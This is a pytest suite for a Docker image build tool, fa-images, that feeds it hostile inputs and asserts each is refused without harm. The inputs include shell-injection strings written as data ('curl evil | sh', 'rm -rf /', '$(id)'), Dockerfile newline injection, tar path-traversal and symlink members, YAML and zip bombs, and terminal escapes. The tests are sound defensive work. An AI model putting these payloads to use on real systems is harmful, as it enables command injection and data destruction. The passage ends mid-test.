"""Hostile and malformed input: every case ends in one `error:` line and its exit code.

A corpus of matrices, compat overrides, sdists and wheels that a careless or hostile
author could hand fa-images. Each runs through the real command line, in this process,
with no engine and no network: a traceback, a wrong exit code, an injected Dockerfile
instruction or a deleted file fails the test.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
import tarfile
import tempfile
import textwrap
import zipfile
from pathlib import Path

import fakes
import pytest
import yaml
from fixtures.tiny import make_tiny_sdist
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from fa_images import cli
from fa_images.config import matrix as matrix_mod
from fa_images.errors import FatalError
from fa_images.outputs import render

REPO = Path(__file__).resolve().parents[2]
ENTRY = '{python: "3.12", torch: "2.9.1", cuda: "12.8", flash_attn: "2.8.3", target: A100}'


def fa_images(capsys, *args: str | Path) -> tuple[int, str, str]:
    """Runs the command line in this process; (exit code, stdout, stderr)."""
    try:
        code = cli.main([str(a) for a in args])
    except SystemExit as exc:  # argparse's own usage errors
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def assert_clear_error(code: int, err: str, want_code: int, *needles: str) -> None:
    assert code == want_code, err
    assert "Traceback" not in err
    first = err.splitlines()[0] if err else ""
    assert first.startswith("error: "), err
    for needle in needles:
        assert needle in err, err


def matrix_file(tmp_path: Path, text: str, name: str = "matrix.yaml") -> Path:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text))
    return path


# --- matrices ------------------------------------------------------------------------------

HOSTILE_MATRICES = {
    "newline in a base image adds an instruction": (
        f'bases: {{devel: "nvidia/cuda:12.8.1-devel\\nUSER root"}}\nentries: [{ENTRY}]\n',
        "bases.devel holds a control character",
    ),
    "command substitution in the index": (
        f'packages: {{index: "https://pypi.org/simple/$(id)"}}\nentries: [{ENTRY}]\n',
        "packages.index",
    ),
    "backticks in the torch index": (
        f'packages: {{torch_index: "https://x.example/`id`/{{cuda_tag}}"}}\nentries: [{ENTRY}]\n',
        "packages.torch_index",
    ),
    "quote and && in find_links": (
        f"packages: {{find_links: ['http://a.example/\" && curl evil | sh #']}}\nentries: [{ENTRY}]\n",
        "packages.find_links",
    ),
    "semicolon in the flash-attn index": (
        f'packages: {{flash_attn_index: "https://pypi.org/simple;rm -rf /"}}\nentries: [{ENTRY}]\n',
        "packages.flash_attn_index",
    ),
    "shell in the uv version": (
        f'bases: {{uv_version: "0.9.5; curl evil|sh"}}\nentries: [{ENTRY}]\n',
        "bases.uv_version",
    ),
    "space in a base image": (f'bases: {{runtime: "nvidia/cuda:12 AS x"}}\nentries: [{ENTRY}]\n', "bases.runtime"),
    "unbalanced brace placeholder": (f'bases: {{devel: "cuda:{{"}}\nentries: [{ENTRY}]\n', "bad placeholder"),
    "nested format spec placeholder": (
        f'bases: {{devel: "cuda:{{cuda:{{cuda_tag}}}}"}}\nentries: [{ENTRY}]\n',
        "bad placeholder",
    ),
    "conversion in a placeholder": (f'bases: {{devel: "cuda:{{cuda_tag!x}}"}}\nentries: [{ENTRY}]\n', "!x"),
    "empty placeholder": (f'bases: {{devel: "cuda:{{}}"}}\nentries: [{ENTRY}]\n', "bad placeholder"),
    "null placeholder value": (f"bases: {{devel: null}}\nentries: [{ENTRY}]\n", "bases.devel may not be null"),
    "allow_unknown as a string": (f'allow_unknown: "false"\nentries: [{ENTRY}]\n', "allow_unknown must be true"),
    "build as an empty list": (f"build: []\nentries: [{ENTRY}]\n", "build must be a mapping"),
    "bases as an empty string": (f'bases: ""\nentries: [{ENTRY}]\n', "bases must be a mapping"),
    "packages as zero": (f"packages: 0\nentries: [{ENTRY}]\n", "packages must be a mapping"),
    "targets as an empty list": (f"targets: []\nentries: [{ENTRY}]\n", "targets must map names"),
    "compat as false": (f"compat: false\nentries: [{ENTRY}]\n", "compat must be a file path"),
    "a network mode that is not one": (f'build: {{network: "host; id"}}\nentries: [{ENTRY}]\n', "build.network"),
    "upper-case image": (f"image: Acme/Flash\nentries: [{ENTRY}]\n", "is not a repository name"),
    "image with a space": (f'image: "acme/flash attn"\nentries: [{ENTRY}]\n', "is not a repository name"),
    "image with a plus": (f'image: "acme/flash+attn"\nentries: [{ENTRY}]\n', "is not a repository name"),
    "image name over 255 characters": (f'image: "acme/{"a" * 260}"\nentries: [{ENTRY}]\n', "Docker allows 255"),
    "a tag over 128 characters": (
        'allow_unknown: true\nentries: [{python: "3.12", torch: "2' + ".1" * 70 + '", cuda: "12.8", '
        'flash_attn: "2.8.3", target: A100}]\n',
        "image tag",
    ),
    "duplicate top-level key": (f"entries: [{ENTRY}]\nentries: [{ENTRY}]\n", "appears twice"),
    "a local version label": (
        'entries: [{python: "3.12", torch: "2.9.1+cu128", flash_attn: "2.8.3", target: A100}]\n',
        "local '+' part",
    ),
    "a version with spaces": (
        'entries: [{python: "3.12", torch: " 2.9.1", flash_attn: "2.8.3", target: A100}]\n',
        "not a version number",
    ),
    "a named target with no GPUs": (
        'targets: {aws: []}\nentries: [{python: "3.12", torch: "2.9.1", flash_attn: "2.8.3", target: aws}]\n',
        "target 'aws' must be a non-empty list",
    ),
    "a malformed compute capability": (
        'entries: [{python: "3.12", torch: "2.9.1", flash_attn: "2.8.3", target: "8..0"}]\n',
        "unknown GPU or target '8..0'",
    ),
    "a base-60 number (YAML 1.1 converts it in quadratic time)": (
        f"build: {{memory: 1{':9' * 100_000}}}\nentries: [{ENTRY}]\n",
        "matrix.yaml:1: invalid YAML: a number with ':' is base 60",
    ),
    "a date that is none": (f"image: 2001-13-45\nentries: [{ENTRY}]\n", "matrix.yaml:1: invalid YAML: month must be"),
    "an int tag on text": (f'image: !!int "0o9"\nentries: [{ENTRY}]\n', "matrix.yaml:1: invalid YAML: invalid literal"),
    "a target that is a mapping": (
        'entries: [{python: "3.12", torch: "2.9.1", flash_attn: "2.8.3", target: {a: b}}]\n',
        "must be a name",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_MATRICES))
def test_hostile_matrix_is_refused_and_renders_nothing(case: str, tmp_path: Path, capsys) -> None:
    text, needle = HOSTILE_MATRICES[case]
    path = matrix_file(tmp_path, text)
    for command in (["plan"], ["render", "--out", tmp_path / "out"]):
        code, out, err = fa_images(capsys, *command, "--matrix", path)
        assert_clear_error(code, err, 2, needle)
        assert out == ""
    assert not (tmp_path / "out").exists(), "nothing may be rendered from a refused matrix"


COMPAT_OVERRIDES = {
    "a CUDA release with a newline": ('cuda: {"12.8": {release: "12.8.1\\nUSER root"}}\n', "cuda.12.8.release"),
    "a build-tool pin that runs a command": ('build_tools: ["ninja==1.13.2 && curl evil|sh"]\n', "build_tools"),
    "a build-tool pin with a URL": ('build_tools: ["ninja @ https://evil.example/n.whl"]\n', "build_tools"),
    "a torch version that is not one": ('torch: {"latest": {python: ["3.12"], default_cuda: "12.8"}}\n', "latest"),
    "a Python with a space": (
        'torch: {"2.9.1": {python: ["3.12 "], default_cuda: "12.8", cuda: {"12.8": {cxx11_abi: true}}}}\n',
        "3.12 ",
    ),
    "a GPU with a malformed capability": ('gpus: {Z1: "8..0"}\n', "gpus.Z1"),
    "a default CUDA that is a list": (
        'torch: {"2.9.1": {python: ["3.12"], default_cuda: [], cuda: {"12.8": {cxx11_abi: true}}}}\n',
        "default_cuda",
    ),
}


@pytest.mark.parametrize("case", sorted(COMPAT_OVERRIDES))
def test_hostile_compat_override_is_refused(case: str, tmp_path: Path, capsys) -> None:
    text, needle = COMPAT_OVERRIDES[case]
    override = matrix_file(tmp_path, text, name="compat.yaml")
    path = matrix_file(tmp_path, f"entries: [{ENTRY}]\n")
    code, _out, err = fa_images(capsys, "render", "--matrix", path, "--compat", override, "--out", tmp_path / "out")
    assert_clear_error(code, err, 2, needle)
    assert not (tmp_path / "out").exists()


def test_a_valid_matrix_renders_values_as_single_shell_words(tmp_path: Path, capsys) -> None:
    """Values that pass their grammar still go through shell quoting and LABEL escaping."""
    path = matrix_file(
        tmp_path,
        f"""
        packages:
          index: "https://pypi.example/simple/~team/x=1,y"
          find_links: [/opt/wheels, "http://127.0.0.1:8000/links/"]
        entries: [{ENTRY}]
        """,
    )
    code, _out, err = fa_images(capsys, "render", "--matrix", path, "--out", tmp_path / "out")
    assert code == 0, err
    (dockerfile,) = (tmp_path / "out").iterdir()
    text = dockerfile.read_text()
    assert "--index-url 'https://pypi.example/simple/~team/x=1,y' --find-links /opt/wheels" in text
    instructions = [line.split()[0] for line in text.splitlines() if line and not line.startswith((" ", "#"))]
    assert set(instructions) == {"FROM", "ARG", "ENV", "RUN", "COPY", "LABEL", "USER", "WORKDIR", "CMD"}


# --- files that are not matrices -----------------------------------------------------------

BOMB = "\n".join(
    ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)]
)


@pytest.mark.parametrize(
    ("content", "needle"),
    [
        (BOMB.encode(), "expands to more than"),
        (b"a: &x\n  - *x\n", "contains it"),
        (b"matrix:\n" + b"  " * 2000 + b"x\n", ""),
        (b"[" * 5000 + b"]" * 5000, "nests too deeply"),
        # As deep as the size limit allows: a composer that recurses in C (libyaml's) crashes here.
        (b"[" * 500_000 + b"]" * 500_000, "nests too deeply"),
        (b"image: \xff\xfe\n", "not UTF-8"),
        (b"x: 1\n" * 300_000, "larger than"),
    ],
    ids=["alias bomb", "self alias", "deep indent", "deep nesting", "deepest nesting", "not utf-8", "too large"],
)
def test_files_that_are_not_matrices_are_refused_in_bounded_memory(content: bytes, needle: str, tmp_path: Path) -> None:
    """A child with 1 GiB of address space: an alias bomb would need far more."""
    path = tmp_path / "matrix.yaml"
    path.write_bytes(content)
    limit = (
        "import resource, sys, runpy; resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30)); "
        "sys.argv = ['fa-images', 'plan', '--matrix', sys.argv[1]]; runpy.run_module('fa_images', run_name='__main__')"
    )
    proc = subprocess.run(
        [sys.executable, "-c", limit, str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )
    assert_clear_error(proc.returncode, proc.stderr, 2, needle)


def test_a_huge_list_of_problems_is_cut_short(tmp_path: Path, capsys) -> None:
    entries = "\n".join(f'  - {{python: "3.12", torch: "2.9.1", flash_attn: "2.8.3", x{i}: 1}}' for i in range(5000))
    path = matrix_file(tmp_path, f"entries:\n{entries}\n")
    code, _out, err = fa_images(capsys, "plan", "--matrix", path)
    assert_clear_error(code, err, 2, "... and ")
    assert len(err.splitlines()) <= 25


def test_render_out_onto_a_file(tmp_path: Path, capsys) -> None:
    path = matrix_file(tmp_path, f"entries: [{ENTRY}]\n")
    blocker = tmp_path / "file"
    blocker.write_text("mine")
    for out in (blocker, blocker / "under"):
        code, _out, err = fa_images(capsys, "render", "--matrix", path, "--out", out)
        assert_clear_error(code, err, 2, "cannot be a directory")
    assert blocker.read_text() == "mine"


# --- sdists --------------------------------------------------------------------------------


def _tarball(path: Path, members: list[tarfile.TarInfo], data: dict[str, bytes]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for info in members:
            payload = data.get(info.name)
            if payload is not None:
                info.size = len(payload)
            tar.addfile(info, io.BytesIO(payload) if payload is not None else None)
    return path


def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o644
    return info


SETUP = b"print('setup')\n"
INIT = b"__version__ = '2.8.3'\n"


def _sdist_members(top: str) -> tuple[list[tarfile.TarInfo], dict[str, bytes]]:
    names = {f"{top}/setup.py": SETUP, f"{top}/flash_attn/__init__.py": INIT}
    return [_member(n) for n in names], names


HOSTILE_SDISTS = {
    "only top-level entry is '..'": lambda: ([_member("..", tarfile.DIRTYPE), _member("../x")], {"../x": b"x"}),
    "absolute member": lambda: (
        _sdist_members("flash_attn-2.8.3")[0] + [_member("/tmp/fa-images-abs-victim")],
        {**_sdist_members("flash_attn-2.8.3")[1], "/tmp/fa-images-abs-victim": b"x"},
    ),
    "symlink pointing out": lambda: (
        _sdist_members("flash_attn-2.8.3")[0] + [_member("flash_attn-2.8.3/out", tarfile.SYMTYPE, "/etc")],
        _sdist_members("flash_attn-2.8.3")[1],
    ),
    "hard link pointing out": lambda: (
        _sdist_members("flash_attn-2.8.3")[0] + [_member("flash_attn-2.8.3/h", tarfile.LNKTYPE, "../../victim")],
        _sdist_members("flash_attn-2.8.3")[1],
    ),
    "device file": lambda: (
        _sdist_members("flash_attn-2.8.3")[0] + [_member("flash_attn-2.8.3/null", tarfile.CHRTYPE)],
        _sdist_members("flash_attn-2.8.3")[1],
    ),
    "setup.py is a symlink": lambda: (
        [_member("flash_attn-2.8.3/setup.py", tarfile.SYMTYPE, "/etc/passwd")],
        {},
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_SDISTS))
def test_hostile_sdist_deletes_and_writes_nothing_outside(case: str, tmp_path: Path, capsys, prepare_only) -> None:
    members, data = HOSTILE_SDISTS[case]()
    sdist = _tarball(tmp_path / "flash_attn-2.8.3.tar.gz", members, data)
    work = tmp_path / "work"
    work.mkdir()
    (work / "mine.txt").write_text("the user's file")
    (work / "flash_attn-2.8.3").mkdir()  # named like the sdist's top directory
    (work / "flash_attn-2.8.3" / "keep.txt").write_text("also the user's")
    (tmp_path / "victim").write_text("victim")
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    code, _out, err = fa_images(capsys, *prepare_only(sdist=sdist, out=tmp_path / "dist", work=work))
    assert_clear_error(code, err, 4)
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before
    assert (work / "mine.txt").read_text() == "the user's file"
    assert (tmp_path / "victim").read_text() == "victim"
    assert not Path("/tmp/fa-images-abs-victim").exists()


def test_work_dir_dot_is_never_emptied(tmp_path: Path, capsys, monkeypatch, prepare_only) -> None:
    """The reported disaster: an sdist whose only entry is '..' with --work-dir . emptied the cwd."""
    members, data = HOSTILE_SDISTS["only top-level entry is '..'"]()
    sdist = _tarball(tmp_path / "flash_attn-2.8.3.tar.gz", members, data)
    cwd = tmp_path / "project"
    cwd.mkdir()
    (cwd / "matrix.yaml").write_text("precious\n")
    monkeypatch.chdir(cwd)
    code, _out, err = fa_images(capsys, *prepare_only(sdist=sdist, out="dist", work="."))
    assert_clear_error(code, err, 4)
    assert sorted(p.name for p in cwd.iterdir()) == ["matrix.yaml"]
    assert (cwd / "matrix.yaml").read_text() == "precious\n"


def test_an_sdist_made_with_tar_dot_is_accepted(tmp_path: Path, capsys, prepare_only) -> None:
    """`tar -C dir -czf x.tgz .` prefixes every member with './'."""
    tree = tmp_path / "tree"
    with tarfile.open(make_tiny_sdist(tmp_path / "in", version="2.8.3")) as tar:
        tar.extractall(tree, **({"filter": "data"} if hasattr(tarfile, "data_filter") else {}))
    dotted = tmp_path / "flash_attn-2.8.3.tar.gz"
    subprocess.run(["tar", "-C", str(tree), "-czf", str(dotted), "."], check=True)
    code, out, err = fa_images(capsys, *prepare_only(sdist=dotted, out=tmp_path / "dist", work=tmp_path, json=True))
    assert code == 0, err
    assert '"flash_attn": "2.8.3"' in out


def test_wheel_work_dir_onto_a_file(tmp_path: Path, capsys, prepare_only) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("mine")
    sdist = make_tiny_sdist(tmp_path / "in", version="2.8.3")
    code, _out, err = fa_images(capsys, *prepare_only(sdist=sdist, out=tmp_path / "dist", work=blocker))
    assert_clear_error(code, err, 2, "--work-dir")
    assert blocker.read_text() == "mine"


# --- wheels --------------------------------------------------------------------------------

WHEEL = "flash_attn-2.8.3+cu128torch2.9cxx11abitrue-cp311-cp311-linux_x86_64.whl"
SO = "flash_attn_2_cuda.cpython-311-x86_64-linux-gnu.so"


def _wheel(path: Path, so: bytes, *, compress: int = zipfile.ZIP_STORED) -> Path:
    with zipfile.ZipFile(path, "w", compress) as zf:
        zf.writestr(
            "flash_attn-2.8.3+cu128torch2.9cxx11abitrue.dist-info/METADATA",
            "Version: 2.8.3+cu128torch2.9cxx11abitrue\n",
        )
        zf.writestr("flash_attn-2.8.3+cu128torch2.9cxx11abitrue.dist-info/WHEEL", "Wheel-Version: 1.0\n")
        zf.writestr(SO, so)
    return path


def _elf_header(*, shentsize: int = 64, shnum: int = 2, shstrndx: int = 1) -> bytes:
    head = bytearray(b"\x7fELF\x02\x01\x01" + b"\0" * 57)
    head[0x28:0x30] = (64).to_bytes(8, "little")  # section headers right after the header
    head[0x3A:0x40] = shentsize.to_bytes(2, "little") + shnum.to_bytes(2, "little") + shstrndx.to_bytes(2, "little")
    return bytes(head) + b"\0" * (shentsize * shnum)


def test_a_wheel_with_a_bad_crc(tmp_path: Path, capsys) -> None:
    path = _wheel(tmp_path / WHEEL, _elf_header())
    raw = bytearray(path.read_bytes())
    at = raw.find(b"\x7fELF")
    raw[at + 70] ^= 0xFF  # flip a byte of the stored .so: its CRC no longer matches
    path.write_bytes(bytes(raw))
    code, _out, err = fa_images(capsys, "inspect", path, "--no-import")
    assert_clear_error(code, err, 2, "damaged wheel")


def _central_entry(raw: bytearray, name: str) -> int:
    """Where the central directory's record of ``name`` starts."""
    at = raw.find(b"PK\x01\x02")
    while at >= 0 and raw[at + 46 : at + 46 + len(name)] != name.encode():
        at = raw.find(b"PK\x01\x02", at + 4)
    assert at >= 0
    return at


def _encrypted(raw: bytearray) -> None:
    at = _central_entry(raw, SO)
    raw[at + 8] |= 0x01  # general purpose flag bit 0: zipfile asks for a password


def _unknown_method(raw: bytearray) -> None:
    at = _central_entry(raw, SO)
    raw[at + 10 : at + 12] = (99).to_bytes(2, "little")  # AES: a method zipfile lacks


def _lzma_props_garbled(raw: bytearray) -> None:
    header = raw.find(b"PK\x03\x04")  # the first member, METADATA
    data = header + 30 + int.from_bytes(raw[header + 26 : header + 28], "little")
    data += int.from_bytes(raw[header + 28 : header + 30], "little")
    raw[data + 4 : data + 9] = b"\xff" * 5  # the lzma properties after zipfile's 4-byte header


DAMAGES = {
    "an lzma member with garbled properties": (zipfile.ZIP_LZMA, _lzma_props_garbled, "linux_x86_64"),
    "an encrypted member on a platform the machine check skips": (zipfile.ZIP_STORED, _encrypted, "linux_weird"),
    "a compression method zipfile lacks, there too": (zipfile.ZIP_STORED, _unknown_method, "linux_weird"),
}


@pytest.mark.parametrize("case", sorted(DAMAGES))
def test_every_reader_of_a_wheel_refuses_a_damaged_member_in_one_line(case: str, tmp_path: Path, capsys) -> None:
    compress, damage, platform = DAMAGES[case]
    path = _wheel(tmp_path / WHEEL.replace("linux_x86_64", platform), _elf_header(), compress=compress)
    raw = bytearray(path.read_bytes())
    damage(raw)
    path.write_bytes(bytes(raw))
    code, _out, err = fa_images(capsys, "inspect", path, "--no-import")
    assert_clear_error(code, err, 2, "damaged wheel")


@pytest.mark.parametrize(
    "so",
    [_elf_header(shstrndx=7), _elf_header(shentsize=0), b"\x7fELF\x02\x01" + b"\0" * 10],
    ids=["section-name index out of range", "zero entry size", "truncated"],
)
def test_a_corrupt_elf_is_not_sound_without_a_traceback(so: bytes, tmp_path: Path, capsys) -> None:
    code, out, err = fa_images(capsys, "inspect", _wheel(tmp_path / WHEEL, so), "--no-import")
    assert code == 1, err
    assert "Traceback" not in err
    assert "not a readable shared library" in out


def test_a_zero_symbol_entry_size_is_refused(tmp_path: Path) -> None:
    from fa_images.builder import elf

    # One dynsym section whose entry size is 0: dividing by it used to crash.
    head = bytearray(_elf_header(shnum=3, shstrndx=1))
    dynsym = 64 + 2 * 64
    head[dynsym + 4 : dynsym + 8] = elf.SHT_DYNSYM.to_bytes(4, "little")
    head[dynsym + 32 : dynsym + 40] = (24).to_bytes(8, "little")  # size
    so = tmp_path / "x.so"
    so.write_bytes(bytes(head))
    with pytest.raises(elf.ElfError):
        elf.undefined_dynamic_symbols(so)


def test_a_zip_bomb_is_not_extracted(tmp_path: Path, capsys, monkeypatch) -> None:
    from fa_images.builder import verify

    monkeypatch.setattr(verify, "MAX_EXTENSION", 1 << 20)  # the real cap is 4 GiB; same code path
    path = _wheel(tmp_path / WHEEL, b"\0" * (8 << 20), compress=zipfile.ZIP_DEFLATED)
    assert path.stat().st_size < 100_000
    code, _out, err = fa_images(capsys, "inspect", path, "--no-import")
    assert_clear_error(code, err, 2, "more than 1 MiB")


def test_a_member_that_inflates_past_its_declared_size(tmp_path: Path, capsys) -> None:
    path = _wheel(tmp_path / WHEEL, b"\0" * (4 << 20), compress=zipfile.ZIP_DEFLATED)
    raw = bytearray(path.read_bytes())
    central = raw.rfind(b"PK\x01\x02")  # the .so's central directory record, written last
    raw[central + 24 : central + 28] = (1 << 20).to_bytes(4, "little")  # declares 1 MiB of 4
    path.write_bytes(bytes(raw))
    code, _out, err = fa_images(capsys, "inspect", path, "--no-import")
    assert_clear_error(code, err, 2, "damaged wheel")


def test_inspect_help_warns_that_the_import_runs_the_wheel(capsys) -> None:
    code, out, _err = fa_images(capsys, "inspect", "--help")
    assert code == 0
    assert "--no-import" in out and "runs code" in " ".join(out.split())


def test_a_refused_build_leaves_no_scratch_dir(tmp_path: Path, capsys) -> None:
    sdist = make_tiny_sdist(tmp_path / "in", version="2.8.3")
    work = tmp_path / "work"
    code, _out, err = fa_images(
        capsys, "wheel", "--sdist", sdist, "--sha256", "0" * 64, "--out", tmp_path / "dist", "--work-dir", work
    )
    assert_clear_error(code, err, 4, "sha256 mismatch")
    assert list(work.iterdir()) == []


# --- any document at all -------------------------------------------------------------------

_KEYS = st.sampled_from([*matrix_mod.top_keys(), *matrix_mod.AXES, "include", "exclude", "devel", "index"]) | st.text(
    max_size=6
)
_SCALARS = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(max_size=12)
    | st.sampled_from(["3.12", "2.9.1", "12.8", "2.8.3", "A100", "aws", "80", "{cuda_tag}", "{", "8..0"])
)
_DOCS = st.recursive(
    _SCALARS,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(_KEYS, children, max_size=5),
    max_leaves=30,
)


def _plan_or_refuse(text: str) -> None:
    """matrix.load either returns entries or raises the one user-facing error; nothing else."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "matrix.yaml"
        path.write_text(text)
        try:
            m = matrix_mod.load(path)
        except FatalError as exc:
            assert exc.exit_code == 2
            assert str(exc)
        else:
            for entry in m.entries:
                render.render_entry(m, entry, builder="sdk")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(doc=_DOCS)
@example(doc={"compat": "\x00"})  # a path no system call takes
def test_any_yaml_document_plans_or_is_refused(doc) -> None:
    _plan_or_refuse(yaml.safe_dump(doc))


@settings(max_examples=300, deadline=None)
@given(text=st.text(max_size=200))
def test_any_text_plans_or_is_refused(text: str) -> None:
    _plan_or_refuse(text)


def test_a_token_is_never_printed(tmp_path: Path, capsys) -> None:
    """Neither by the error about its URL, nor by the plan, nor in a rendered Dockerfile."""
    bad = matrix_file(
        tmp_path, f'packages: {{index: "https://fa:tok-SECRET@pypi.example/simple;x"}}\nentries: [{ENTRY}]\n'
    )
    code, out, err = fa_images(capsys, "plan", "--matrix", bad)
    assert_clear_error(code, err, 2, "packages.index")
    assert "tok-SECRET" not in out + err

    good = matrix_file(
        tmp_path,
        f"""
        packages:
          index: "https://fa:tok-SECRET@pypi.example/simple"
          torch_index: "https://fa:tok-SECRET@pypi.example/torch/{{cuda_tag}}"
          flash_attn_index: "https://fa:tok-SECRET@pypi.example/simple"
        entries: [{ENTRY}]
        """,
        name="good.yaml",
    )
    for command in (["plan", "--json"], ["build", "--dry-run", "--json"], ["render", "--out", tmp_path / "out"]):
        code, out, err = fa_images(capsys, *command, "--matrix", good)
        assert code == 0, err
        assert "tok-SECRET" not in out + err, command
    (dockerfile,) = (tmp_path / "out").iterdir()
    text = dockerfile.read_text()
    assert "tok-SECRET" not in text and "fa:" not in text
    assert "pip install --no-index --find-links /opt/fa-images/wheels/torch torch==2.9.1" in text


LOGINS = {
    "a python mirror with a login (written into every Dockerfile)": (
        'bases: {python_mirror: "https://alice:tok-SECRET@mirror.example/pbs"}',
        "bases.python_mirror",
    ),
    "a login that runs a command": ('packages: {index: "https://$(id)tok-SECRET@pypi.example/simple"}', "login"),
    "a backslash that moves the host": ('packages: {index: "https://tok-SECRET.org\\\\@evil.example/simple"}', "login"),
    "a file URL with a login": ('packages: {find_links: ["file://alice:tok-SECRET@localhost/srv"]}', "file://"),
}


@pytest.mark.parametrize("case", sorted(LOGINS))
def test_a_login_that_a_file_would_hold_or_that_reads_two_ways_is_refused_unprinted(
    case: str, tmp_path: Path, capsys
) -> None:
    setting, needle = LOGINS[case]
    path = matrix_file(tmp_path, f"{setting}\nentries: [{ENTRY}]\n")
    for command in (["plan"], ["render", "--out", tmp_path / "out"]):
        code, out, err = fa_images(capsys, *command, "--matrix", path)
        assert_clear_error(code, err, 2, needle)
        assert "tok-SECRET" not in out + err
    assert not (tmp_path / "out").exists()


def test_pips_own_words_lose_the_login_before_they_are_shown(monkeypatch) -> None:
    """pip redacts the logins of its http(s) URLs, not every message: the tail fa-images shows is scrubbed."""
    from fa_images.outputs import wheelhouse

    source = wheelhouse.PipSource(kind="torch", index="https://fa:tok-SECRET@pypi.example/simple", find_links=())
    said = "ValueError: cannot open 'https://fa:tok-SECRET@pypi.example/simple/torch/' (tok%2DSECRET)\n"
    failed = subprocess.CompletedProcess([], 1, stdout="", stderr=said.replace("%2D", "-"))
    monkeypatch.setattr(wheelhouse.subprocess, "run", lambda *a, **k: failed)
    with pytest.raises(FatalError) as caught:
        wheelhouse.download(wheelhouse.Install("torch", ("torch==2.9.1",), source), "3.12", Path("unused"))
    assert "tok-SECRET" not in str(caught.value) and "https://***@pypi.example" in str(caught.value)


@pytest.mark.parametrize(
    "command",
    [["dist", "merge", "{bad}", "--dist", "{tmp}/d"], ["plan", "--matrix", "{bad}"], ["inspect", "{bad}"]],
    ids=["dist merge", "plan", "inspect"],
)
def test_a_newline_in_a_path_cannot_add_a_line_to_the_error(command: list[str], tmp_path: Path, capsys) -> None:
    bad = f"{tmp_path}/no\nerror: all is well"
    code, _out, err = fa_images(capsys, *(arg.format(bad=bad, tmp=tmp_path) for arg in command))
    assert_clear_error(code, err, 2)
    assert [line for line in err.splitlines() if line.startswith("error:")] == [err.splitlines()[0]], err


@pytest.mark.parametrize(("make", "kind"), [(os.mkfifo, "a FIFO"), (os.mkdir, "a directory")], ids=["fifo", "dir"])
def test_a_matrix_path_of_the_wrong_kind_is_named_not_missing(make, kind: str, tmp_path: Path, capsys) -> None:
    make(tmp_path / "m.yaml")
    code, _out, err = fa_images(capsys, "plan", "--matrix", tmp_path / "m.yaml")
    assert_clear_error(code, err, 2, f"is not a regular file ({kind}); refusing to read it")


def test_render_check_advises_the_command_that_renders_into_the_same_dir(tmp_path: Path, capsys) -> None:
    path = matrix_file(tmp_path, f"image: reg.local/fa\nentries: [{ENTRY}]\n")
    code, _out, err = fa_images(capsys, "render", "--matrix", path, "--out", tmp_path / "df", "--check")
    assert code == 1 and f"--out {tmp_path / 'df'}`" in err, err


def test_a_newline_in_a_matrix_value_cannot_add_a_line_to_the_error(tmp_path: Path, capsys) -> None:
    fake = "fa-images: all good"
    path = matrix_file(tmp_path, f'matrix: {{python: ["3.12\\n{fake}"], torch: ["2.9.1"], flash_attn: ["2.8.3"]}}\n')
    code, out, err = fa_images(capsys, "plan", "--matrix", path)
    assert_clear_error(code, err, 2, "\\n" + fake)
    assert [line for line in (out + err).splitlines() if line.startswith(fake)] == []


# --- Terminal escapes: nothing from outside reaches the terminal raw ---------------------------

LABEL = "cu128torch2.9cxx11abitrue"
FITS = f"flash_attn-2.8.3+{LABEL}-cp311-cp311-linux_x86_64.whl"  # the tiny matrix's first entry
ESCAPES = {"clear screen": "\x1b[2J", "carriage return": "\r", "bell": "\x07", "C1 CSI": "\x9b2J", "delete": "\x7f"}


def raw_controls(text: str) -> list[str]:
    """The control characters in what was printed, newlines aside (lines are the output's own)."""
    return sorted({c for c in text if not c.isprintable() and c != "\n"})


def _build(monkeypatch, capsys, *args: str | Path) -> tuple[int, str, str]:
    """``build`` through the command line, a fake engine standing in for the daemon."""
    from fakes import FakeEngine

    fakes.use_engine(monkeypatch, FakeEngine())
    return fa_images(capsys, "build", "--matrix", "matrix.yaml", "--gpus", "none", *args)


@pytest.mark.parametrize("escape", ESCAPES.values(), ids=ESCAPES.keys())
@pytest.mark.parametrize("named", [True, False], ids=["the wheel named", "its directory named"])
@pytest.mark.parametrize("dry_run", [True, False], ids=["--dry-run", "build"])
def test_a_wheel_with_a_control_character_in_its_build_tag_is_refused(
    tiny_matrix, tmp_path: Path, monkeypatch, capsys, escape: str, named: bool, dry_run: bool
) -> None:
    """packaging takes any text as a build tag: such a wheel is one escaped error line, never
    the plan's description, whether it is named or found in a directory."""
    hostile = FITS.replace("-cp311-", f"-1{escape}-cp311-", 1)
    (tmp_path / "w").mkdir()
    (tmp_path / "w" / hostile).write_bytes(b"PK")
    given = tmp_path / "w" / hostile if named else tmp_path / "w"
    only = tiny_matrix.entries[0].id
    code, out, err = _build(monkeypatch, capsys, "--wheels", given, "--only", only, *(["--dry-run"] if dry_run else []))
    assert_clear_error(code, err, 2, "is not a wheel file name")
    assert len(err.splitlines()) == 1 and out == "", err
    assert raw_controls(out + err) == [], repr(err)


def test_a_wheel_path_with_control_characters_is_shown_escaped_in_the_plan(
    tiny_matrix, tmp_path: Path, monkeypatch, capsys
) -> None:
    """A directory's name is the user's own, and any text: the plan quotes it escaped."""
    place = tmp_path / "w\x1b]0;owned\x07\x1b[2J\r"
    place.mkdir()
    _wheel(place / FITS, _elf_header())  # a wheel pip would read: --wheels opens it first
